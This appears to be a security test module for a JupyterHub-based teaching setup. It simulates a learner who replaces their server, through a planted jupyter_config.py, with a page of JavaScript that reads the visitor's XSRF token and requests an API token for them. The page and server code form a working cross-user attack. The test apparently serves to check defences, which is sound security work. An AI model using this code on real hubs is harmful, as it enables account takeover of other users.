"""A learner who replaces their server with their own program, to attack whoever opens it."""

from yarl import URL

from .people import A, Class

MARK = "served by A"
PAGE = """<title>waits</title><script>
async function attack() {
  const home = await (await fetch("HUB/hub/home", {credentials: "include"})).text();
  const [xsrf, name] = ["xsrf_token", "user"].map((key) => home.match(`${key}: "([^"]+)"`)[1]);
  const headers = {"Content-Type": "application/json"};
  const where = `HUB/hub/api/users/${name}/tokens?_xsrf=${xsrf}`;
  return (await fetch(where, {method: "POST", body: "{}", headers})).status;
}
attack().catch(String).then((status) => document.title = `MARK: ${status}`);
</script>"""
# Loaded as Jupyter's configuration, it turns the process that the hub started into A's program.
PROGRAM = """
import os, threading, time, urllib.parse
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
class Page(BaseHTTPRequestHandler):
    def do_GET(self):
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Cache-Control", "max-age=99999")
        self.end_headers()
        self.wfile.write({page!r}.encode())
        if self.path.endswith("/leave"):
            threading.Thread(target=server.shutdown).start()
port = urllib.parse.urlsplit(os.environ["JUPYTERHUB_SERVICE_URL"]).port
server = ThreadingHTTPServer(("127.0.0.1", port), Page)
server.serve_forever()
server.server_close()
time.sleep(10**6)  # it lives, and leaves its port to others
"""
CONFIG = "my-work/.jupyter/jupyter_config.py"  # in A's home


def program(hub=""):
    """Serves the page, which attacks the hub at that address."""
    return PROGRAM.format(page=PAGE.replace("MARK", MARK).replace("HUB", hub))


class Visit(Class):
    """The class, in which A's program has taken the place of A's server."""

    def start(self):
        super().start()
        write = f"import pathlib; pathlib.Path.home().joinpath({CONFIG!r}).write_text"
        self.do(self.in_a.run(f"{write}({program()!r})"))
        self.stop(self.a)
        self.hub_api(self.a, "POST", "server")
        self.until(lambda: MARK in self.get(f"/user/{A}/x", self.a)[2])

    def port_of(self, name):
        """The port on which the process that the hub started is listening."""
        pid = self.room.run("pgrep", "-u", f"class-{name}", "-f", "jupyterhub.singleuser").split()[
            0
        ]
        lines = self.room.run("cat", f"/proc/{pid}/environ").split("\0")
        url = next(line for line in lines if line.startswith("JUPYTERHUB_SERVICE_URL="))
        return URL(url.partition("=")[2]).port
